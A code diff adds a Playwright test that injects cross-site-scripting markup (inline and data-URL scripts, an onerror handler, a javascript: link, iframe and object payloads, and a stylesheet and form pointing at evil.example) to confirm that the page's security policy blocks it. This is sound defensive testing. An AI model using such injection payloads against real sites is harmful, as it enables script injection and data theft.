@@ -2,7 +2,7 @@ import { request as ask } from 'node:http'
 import { expect as check } from '@playwright/test'
 import type { Page } from '@playwright/test'
 import { DEMO_PASSWORD as PASSWORD } from '#tools/demo/unit.ts'
-import { expect, test } from './helper/desk.ts'
+import { expect, listen, test } from './helper/desk.ts'
 import { composeAndEnter } from './helper/ime.ts'
 import type { Served } from './helper/serve.ts'
 import { expectTitle, goTo, login, visit } from './page/door.ts'
@@ -127,6 +127,52 @@ async function opened(
   await visit(page, served)
   return served
 }
+
+/** What words that became markup would try: each sets `harm`, or asks a foreign host. */
+const MARKUP = `
+  <script>window.harm = 'inline'</script>
+  <script src="data:text/javascript,window.harm='data'"></script>
+  <img src="data:," onerror="window.harm='handler'">
+  <a id="link" href="javascript:void(window.harm='link')">x</a>
+  <iframe srcdoc="<script>parent.harm='frame'</script>"></iframe>
+  <object data="data:text/html,<script>parent.harm='object'</script>"></object>
+  <link rel="stylesheet" href="https://evil.example/x.css">
+  <form id="form" action="https://evil.example/take"><input name="words" value="1"></form>`
+
+test('markup that got into the page runs nothing, asks nobody and is told by the browser (S-07)', async ({
+  page,
+  office,
+}) => {
+  const served = await opened(page, office)
+  // In a window of its own: what the browser complains of is what is looked for there.
+  const window = await page.context().newPage()
+  await visit(window, served)
+  const complaints = listen(window)
+  const asked: string[] = []
+  await window.route(/evil\.example/u, (route) => {
+    asked.push(route.request().url())
+    return route.abort()
+  })
+  await window.evaluate((markup) => {
+    const seen: string[] = []
+    Object.assign(globalThis, { seen })
+    document.addEventListener('securitypolicyviolation', (one) => seen.push(one.effectiveDirective))
+    // A fragment made by a range runs its scripts, as text set into an element does not.
+    document.body.append(document.createRange().createContextualFragment(markup))
+    document.querySelector<HTMLElement>('#link')?.click()
+    document.querySelector<HTMLFormElement>('#form')?.submit()
+    // Later, when what is typed here no longer counts as the debugger's own words.
+    setTimeout(() => setTimeout('globalThis.harm = "made from text"'))
+  }, MARKUP)
+  const seen = () => window.evaluate('[...new Set(seen)].toSorted()')
+  await expect
+    .poll(seen)
+    .toEqual(['form-action', 'object-src', 'script-src', 'script-src-attr', 'script-src-elem', 'style-src-elem'])
+  check(await window.evaluate('globalThis.harm'), 'nothing ran').toBeUndefined()
+  check(asked, 'nobody was asked').toEqual([])
+  check(complaints.length).toBeGreaterThan(4)
+  await window.close()
+})
 
 test('a wrong password is told in Chinese with what to do; the right one then opens', async ({ page, office }) => {
   await opened(page, office)
